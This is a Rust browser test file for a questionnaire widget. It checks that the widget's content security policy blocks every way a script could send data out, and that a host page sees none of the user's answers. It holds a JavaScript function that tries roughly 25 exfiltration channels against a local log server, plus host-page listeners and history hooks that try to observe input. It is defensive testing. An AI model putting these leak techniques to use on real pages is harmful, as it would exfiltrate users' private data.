//! No data leaves the page: every way in which a script could send data, and what a host page can observe.

use anyhow::{Context, Result, ensure};
use e2e::{Browser, Case, Part, Server, Situation, Visitor, Wish, dist, site, situation, words};
use intimacy_explorer::content::Subject;
use serde_json::{Value, json};

use crate::journey::{RANKING, TOTAL};

/// The situations of this module.
pub const SITUATIONS: &[Situation] =
    &[situation!(the_policy_stops_every_request_that_works_elsewhere), situation!(the_host_page_sees_no_answer)];

/// `leak(address)`: tries every way to send data to an address. Resolves to the number of ways when all were tried.
const LEAK: &str = r#"
    window.leak = async (to) => {
        const at = (name) => `${to}/${name}?answer=emotional`;
        const attempt = (call) => { try { return call(); } catch { return undefined; } };
        const put = (tag, set) => attempt(() => {
            const made = document.createElement(tag);
            document.body.append(made);
            for (const [name, value] of Object.entries(set)) attempt(() => { made[name] = value; });
        });
        const ways = [
            () => fetch(at('fetch'), { mode: 'no-cors' }).catch(() => 0),
            () => fetch(at('keepalive'), { mode: 'no-cors', method: 'POST', keepalive: true, body: 'x' }).catch(() => 0),
            () => new Promise((done) => {
                const request = new XMLHttpRequest();
                request.onloadend = done;
                request.open('GET', at('xhr'));
                request.send();
            }),
            () => navigator.sendBeacon(at('beacon'), 'x'),
            () => new WebSocket(at('socket').replace('http', 'ws')),
            () => new EventSource(at('events')),
            () => { new Image().src = at('image'); },
            () => put('img', { srcset: at('srcset') }),
            () => put('script', { src: at('script') }),
            () => put('link', { rel: 'stylesheet', href: at('stylesheet') }),
            () => put('link', { rel: 'prefetch', href: at('prefetch') }),
            () => put('link', { rel: 'preload', as: 'image', href: at('preload') }),
            () => put('link', { rel: 'modulepreload', href: at('modulepreload') }),
            () => put('link', { rel: 'icon', href: at('icon') }),
            () => put('iframe', { src: at('iframe') }),
            () => put('object', { data: at('object') }),
            () => put('embed', { src: at('embed') }),
            () => put('video', { src: at('video'), preload: 'auto' }),
            () => put('audio', { src: at('audio'), preload: 'auto' }),
            () => put('input', { type: 'image', src: at('input') }),
            () => {
                const sheet = new CSSStyleSheet();
                sheet.replaceSync(`@font-face { font-family: leak; src: url("${at('font')}") }
                    body { background-image: url("${at('background')}"); } body::before { content: 'x'; font-family: leak; }`);
                document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
            },
            () => { document.body.style.listStyleImage = `url("${at('style')}")`; document.body.style.display = 'list-item'; },
            () => import(at('import')).catch(() => 0),
            () => new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker')}', { mode: 'no-cors' })`]))),
            () => {
                const form = document.createElement('form');
                const frame = document.createElement('iframe');
                frame.name = 'leaked';
                Object.assign(form, { action: at('form'), method: 'POST', target: 'leaked' });
                document.body.append(frame, form);
                form.submit();
            },
            () => {
                const use = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
                const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
                image.setAttribute('href', at('svg'));
                use.append(image);
                document.body.append(use);
            },
        ];
        for (const way of ways) await attempt(way);
        return ways.length;
    };"#;

/// A page without a content security policy, which blocks nothing.
const CONTROL: &str =
    "<!doctype html><html lang=en><meta charset=utf-8><title>No policy</title><link rel=icon href=data:,><body>";

/// Tries all ways on the open page, and returns their number.
async fn tries(browser: &Browser, log: &Server) -> Result<u64> {
    let leak = "const done = arguments[1]; leak(arguments[0]).then(done, (problem) => done(String(problem)))";
    let tried: Value = browser.web().execute_async(leak, vec![log.url("/leak").into()]).await?.json().clone();
    tried.as_u64().with_context(|| format!("not all ways were tried: {tried}"))
}

fn reached(log: &Server) -> Vec<String> {
    let mut paths = log.requests_since(0);
    paths.retain(|path| path.starts_with("/leak/"));
    paths.sort();
    paths.dedup();
    paths
}

async fn the_policy_stops_every_request_that_works_elsewhere(case: &Case) -> Result<()> {
    let empty = tempfile::tempdir()?;
    let (server, dist) = (Server::start(site()?).await?, Server::start(dist()?).await?);
    server.page("/control", CONTROL, &[]);
    for server in [&server, &dist] {
        server.before_each_page(LEAK);
    }

    // The control: on a page that blocks nothing, the same attempts reach the server.
    let log = Server::start(empty.path()).await?;
    let browser = case.browser(Wish::default()).await?;
    browser.open(&server.url("/control")).await?;
    let ways = tries(&browser, &log).await?;
    browser.until("most ways lead out of a page without a policy", async || Ok(reached(&log).len() >= 18)).await?;
    let open = reached(&log);

    // Every wrapping that has its own policy.
    let wrapped = [
        server.url("/"),
        dist.url("/site/"),
        dist.url("/embed/frame.html"),
        dist.url("/offline/intimacy-explorer.html"),
    ];
    for address in wrapped {
        let log = Server::start(empty.path()).await?;
        browser.open(&address).await?;
        browser.until_ready().await?;
        ensure!(tries(&browser, &log).await? == ways, "the number of ways differs");
        // The attempts on one more page without a policy are made last. When they have arrived, earlier ones would
        // have, too.
        let last = Server::start(empty.path()).await?;
        browser.open(&server.url("/control")).await?;
        tries(&browser, &last).await?;
        browser.until("the last ways are seen", async || Ok(reached(&last).len() >= open.len() - 2)).await?;
        ensure!(reached(&log).is_empty(), "out of {address} by {:?}", reached(&log));
    }
    Ok(())
}

async fn the_host_page_sees_no_answer(case: &Case) -> Result<()> {
    // Records what a script of the host page can observe without access to the shadow root.
    let watch = "
        window.seen = [];
        for (const what of ['click', 'change', 'input', 'keydown', 'focusin', 'pointerdown']) {
            addEventListener(what, ({ target }) => seen.push(`${what} ${target.localName} ${target.id} ${target.value ?? ''}`), true);
        }
        // Records what a tool observes that listens to the whole page and reads the origin of each event.
        window.heard = [];
        const asks = (what) => addEventListener(what, (event) => {
            const [from] = event.composedPath();
            if (from.getRootNode?.() instanceof ShadowRoot) heard.push(`${what} ${from.localName} ${from.name} ${from.value}`);
        });
        // `pointerrawupdate` is left out, because listening to it slows the page down.
        for (const name in HTMLElement.prototype) if (/^on(?!pointerraw)/.test(name)) asks(name.slice(2));
        for (const what of ['focusin', 'focusout', 'beforeinput']) asks(what);
        addEventListener('click', (event) => window.could ||= event.composedPath()[0].getRootNode() instanceof ShadowRoot, true);
        for (const what of ['ready', 'resize', 'closed', 'error']) {
            addEventListener(`intimacy-explorer:${what}`, (event) => seen.push(`${event.type} ${JSON.stringify(event.detail ?? null)}`));
        }
        for (const name of ['pushState', 'replaceState']) {
            const real = history[name];
            history[name] = function (...words) { seen.push(`${name} ${JSON.stringify(words)}`); return real.apply(this, words); };
        }
        new MutationObserver((records) => {
            for (const { target, attributeName } of records) seen.push(`${target.closest('.ie-leave') ? 'leave' : target.localName}[${attributeName}]`);
        }).observe(document, { attributes: true, subtree: true });";
    let (server, browser, words) = (Server::start(site()?).await?, case.browser(Wish::default()).await?, words()?);
    server.before_each_page(watch);
    let visitor = Visitor::arrives(&browser, &words, &server).await?;
    // The first step is in the article. Everything after it is in the shadow root.
    visitor.begins(Subject::Family, false).await?;
    visitor.sees_question(Part::Closeness, 2, TOTAL).await?;
    let title =
        browser.script("seen.length = 0; return [document.title, location.href, history.length]", vec![]).await?;
    for number in 2..7 {
        visitor.sees_question(Part::Closeness, number, TOTAL).await?;
        visitor.ranks_types(&RANKING).await?;
    }
    visitor.presses(&words.interface.so_far).await?;
    visitor.sees_screen(&words.result.title).await?;
    visitor.presses("Explore").await?;
    browser.find("#ie-search").await?.send_keys("trust").await?;
    let heard = browser.script("return [window.could, heard]", vec![]).await?;
    ensure!(heard == json!([true, []]), "heard by the host page: {heard}");
    let seen = browser.script("return seen", vec![]).await?;
    let seen: Vec<String> = serde_json::from_value(seen)?;
    ensure!(seen.iter().any(|line| line.starts_with("click intimacy-explorer")), "the observer saw nothing: {seen:?}");
    for line in &seen {
        let known = line.split(' ').nth(1) == Some("intimacy-explorer") && line.ends_with("intimacy-explorer  ")
            || line == "intimacy-explorer:resize null"
            || line == "intimacy-explorer[style]"
            // The position of the leave link depends only on the scroll position.
            || ["leave[style]", "leave[popover]"].contains(&line.as_str());
        ensure!(known, "visible to the host page: {line}");
    }
    let after = browser.script("return [document.title, location.href, history.length]", vec![]).await?;
    ensure!(after == title && after != json!(null), "the title or the address has changed: {after}");
    browser.is_quiet().await
}
